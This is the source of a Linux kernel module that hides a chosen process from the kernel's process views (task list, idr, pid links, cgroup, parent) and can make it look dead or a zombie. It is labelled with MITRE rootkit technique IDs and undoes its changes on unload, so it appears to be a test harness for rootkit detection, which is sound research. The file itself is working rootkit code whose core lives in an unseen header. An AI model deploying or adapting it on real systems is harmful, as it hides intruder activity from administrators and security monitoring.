// SPDX-License-Identifier: GPL-2.0-only
/* Takes a process out of one or more of the kernel's views of processes (T1014, T1564); undone at unload. */
#include "prochide.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process");
static char *from = "list";
module_param(from, charp, 0444);
MODULE_PARM_DESC(from, "any of the words list, idr, link, cgroup, parent, joined by +; or none");
static int dead;
module_param(dead, int, 0444);
MODULE_PARM_DESC(dead, "the exit state to pretend: 16 is dead, 32 a zombie");

static int __init attack_init(void)
{
	unsigned int views = 0;
	int error;

	views |= strstr(from, "list") ? PROCHIDE_LIST : 0;
	views |= strstr(from, "idr") ? PROCHIDE_IDR : 0;
	views |= strstr(from, "link") ? PROCHIDE_LINK : 0;
	views |= strstr(from, "cgroup") ? PROCHIDE_CGROUP : 0;
	views |= strstr(from, "parent") ? PROCHIDE_PARENT : 0;
	if (!views && !dead)
		return -EINVAL;
	error = prochide(pid, views);
	if (!error && dead)
		prochide_task->exit_state = dead;
	if (!error)
		attack_log("pid=%d from=%s task=0x%lx comm=%s", pid, from,
			   (unsigned long)prochide_task, prochide_task->comm);
	return error;
}

static void __exit attack_exit(void)
{
	if (dead)
		prochide_task->exit_state = 0;
	prochide_undo();
	attack_log("restored pid=%d", pid);
}

module_init(attack_init);
module_exit(attack_exit);
